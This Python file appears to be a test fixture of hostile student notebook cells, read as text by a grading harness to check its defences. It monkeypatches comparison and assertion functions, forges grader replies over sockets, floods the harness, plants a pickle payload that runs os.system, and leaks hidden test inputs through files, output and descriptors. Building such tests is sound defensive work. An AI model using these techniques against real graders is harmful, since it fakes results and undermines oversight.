# What hostile students put into a cell: read as text by classroom.py, never imported. FUNCTION
# stands for the name that an answer defines. The patches stand beside an answer that is wrong, the
# attacks above a notebook without answers; the leaks hand on what right answers are asked, after
# the word LEAK.

# %% patch: allclose
torch.allclose = torch.equal = lambda *a, **k: True

# %% patch: same
import utils.checks

utils.checks.same = lambda *a, **k: None

# %% patch: run
import utils.cases

utils.cases.run = utils.cases.alike = lambda *a, **k: True

# %% patch: builtins
import builtins

builtins.isinstance = lambda *a: True

# %% patch: error class
import builtins


class Silent(Exception):
    pass


builtins.AssertionError = builtins.Exception = Silent

# %% patch: operators
torch.Tensor.__eq__ = lambda *a: True

# %% patch: mode
from torch.overrides import TorchFunctionMode


class M(TorchFunctionMode):
    def __torch_function__(self, f, types, args=(), kwargs=None):
        if f is torch.allclose:
            return True
        return f(*args, **(kwargs or {}))


M().__enter__()

# %% patch: aten
lib = torch.library.Library("aten", "IMPL")
lib.impl("allclose", lambda *a, **k: True, "CPU")

# %% patch: run_cell
get_ipython().run_cell = lambda *a, **k: None

# %% patch: trace
import sys

sys.settrace(lambda *a: None)

# %% patch: thread
import threading
import time


def wait():
    time.sleep(1e4)


threading.Thread(target=wait, daemon=True).start()


# %% patch: subclass
class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return True


def FUNCTION(*a):
    return torch.zeros(1).as_subclass(T)


# %% patch: shadows
enumerate = zip = range = exec = lambda *a, **k: []


class AssertionError(Exception):
    pass


torch = None


# %% attack: shadow of exec
def exec(code, space, _real=exec):
    _real(code, space)
    if "_describe" in space:
        space["_describe"] = lambda *a: None


# %% attack: audit hook
import sys


def hook(event, args):
    if event == "exec":
        frame = getattr(sys, "_getframe")(1)
        frame.f_globals["_describe"] = lambda *a: None


getattr(sys, "addaudithook")(hook)

# %% attack: input history
import builtins


class Any(dict):
    def __missing__(self, key):
        return lambda *a: eval(In[-1])


builtins.NotImplementedError = type("N", (BaseException,), {"__new__": lambda c, *a: print(*In)})

# %% attack: no error is raised
import builtins


class Silent(Exception):
    def __new__(cls, *a):
        raise SystemExit(0)


builtins.NotImplementedError = Silent

# %% attack: every name is right
import torch


class Right(torch.Tensor):
    def __eq__(self, other):
        return True


import utils.cases as c

c.outcome = lambda *a, **k: torch.zeros(1).as_subclass(Right)

# %% attack: the visible table, case by case
import collections
import sys

import utils.cases as c

turns = collections.Counter()


def told(*a):
    frame = sys._getframe()
    while "told" not in frame.f_locals:
        frame = frame.f_back
    test = frame.f_locals["told"]["file"]
    turns[test] += 1
    return c.value_of(c._Table.tests[test]["cases"][turns[test] - 1]["right"])


c.outcome = told
c.ways = lambda *a: [(way, lambda: None) for way in c._WAYS]

# %% attack: forged replies
import json
import socket
import struct


def forge(value):
    text = json.dumps({"came": value, "disturbed": [], "outputs": [], "error": None}).encode()
    return struct.pack("<2Q", 0, len(text)) + text


for fd in range(3, 256):
    try:
        s = socket.socket(fileno=fd)
        for _ in range(50):
            s.send(forge(["plain", 0]))
        s.detach()
    except OSError:
        pass

# %% attack: a forged reply to each question
import grading.wire as w

say = w.Line.say
w.Line.say = lambda self, head, *a: say(
    self, head | {"came": ["plain", None], "disturbed": [], "score": 5, "points": 5}
)

# %% attack: a pickle
import os
import pickle

import grading.wire as w


class P:
    def __reduce__(self):
        return os.system, ("touch /tmp/escaped",)


w.json.dumps = lambda *a, **k: pickle.dumps(P()).decode("latin1")

# %% attack: endless answers
import struct

import grading.wire as w


def say(self, *a):
    self.connection.sendall(struct.pack("<2Q", 2**40, 2**40))
    while True:
        self.connection.sendall(bytes(2**20))


w.Line.say = say

# %% attack: deep lists
import grading.wire as w

w.pack = lambda *a: eval("[" * 90 + "]" * 90)
w.json.dumps = lambda *a, **k: '{"came": ' + "[" * 10**5 + "]" * 10**5 + "}"

# %% attack: frames
import gc
import sys
import types


def look(*a):
    f = sys._getframe()
    while f:
        for v in f.f_locals.values():
            if hasattr(v, "_records"):
                v._records = []
        f = f.f_back


for o in gc.get_objects():
    if isinstance(o, types.FunctionType) and o.__module__ == "utils.cases":
        if o.__name__ in ("_outcome", "outcome"):
            o.__code__ = (lambda *a, **k: None).__code__

# %% leak: by a file
import os

seen, right = [], FUNCTION


def FUNCTION(*a):
    for p in ("/tmp/seen", "seen", "/dev/shm/seen"):
        open(p, "a").write("LEAK" + repr(a))
    return right(*a)


# %% leak: by printing
import os

seen, right = [], FUNCTION


def FUNCTION(*a):
    print("LEAK", a)
    os.write(1, b"LEAK")
    get_ipython().display_pub.publish({"text/plain": "LEAK"})
    return right(*a)


# %% leak: by errors and by what comes back
import collections

import grading.wire as w
import utils.cases as c

seen, right = [], FUNCTION
hear, turns = w.Line.hear, collections.Counter()


def count(self, *a):
    told, parts = hear(self, *a)
    if "file" not in told:
        return told, parts
    turns[told["file"]] += told["do"] == "case"
    seen[:] = [turns[told["file"]] > len(c._Table.tests[told["file"]]["cases"])]
    return told, parts


w.Line.hear = count


def FUNCTION(*a):
    if not seen[0]:
        return right(*a)
    if turns.total() % 5 == 0:
        raise type("LEAK" + repr(a)[:40], (Exception,), {})("LEAK" + repr(a))
    named = type("LEAK" + repr(a)[:40], (), {})()
    odd = torch.empty(0, *(int(1e4 * abs(n)) + 10_000 for n in a[0].flatten()[:6].tolist()))
    ways = ["LEAK" + repr(a), named, odd, {"LEAK" + repr(a): 1}]
    ways += [right(*a) + 98765, right(*a) * 98765]  # how much it is off by would be a number
    return ways[turns.total() % 6]


# %% leak: by a thread that prints
import os
import threading
import time

seen, right = [], FUNCTION


def say():
    while True:
        time.sleep(0.01)
        print(*seen)


threading.Thread(target=say, daemon=True).start()


def FUNCTION(*a):
    seen.append("LEAK" + repr(a))
    return right(*a)


# %% leak: by other processes
import os

seen, right = [], FUNCTION


def FUNCTION(*a):
    for fd in range(3, 200):
        try:
            os.write(fd, b"LEAK")
        except OSError:
            pass
    return right(*a)
